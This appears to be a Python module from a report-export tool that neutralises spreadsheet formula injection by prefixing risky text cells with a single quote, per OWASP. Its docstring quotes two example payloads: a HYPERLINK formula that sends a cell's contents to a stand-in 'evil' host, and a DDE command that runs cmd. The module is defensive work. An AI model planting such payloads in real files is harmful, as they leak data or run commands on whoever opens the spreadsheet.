"""Text cells of every report format, made inert: the one place that decides how a name or a description is
written into a file someone opens in a spreadsheet.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula (and a tab or a carriage return
before one of them is skipped), so a project named `=HYPERLINK("http://evil/?"&A1, "Open")` or a description
`=cmd|' /C calc'!A0` (DDE) would run when the report is opened. OWASP's advice against CSV injection: prefix such
a cell with a single quote, which spreadsheets show as text. `text_cell()` does that for every text cell of
every format (CSV, the zipped summary CSV, XLSX, PDF: the same rule everywhere, so a value reads the same in
each); numbers written as numbers (durations, rates, amounts) are not text and never pass through it.
"""
from __future__ import annotations

# OWASP "CSV Injection": the characters a spreadsheet may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def text_cell(value: object) -> str:
    """The text to write for a text cell: as it is, or after a single quote when it could start a formula."""
    text = "" if value is None else str(value)
    return QUOTE + text if text.startswith(FORMULA_STARTS) else text
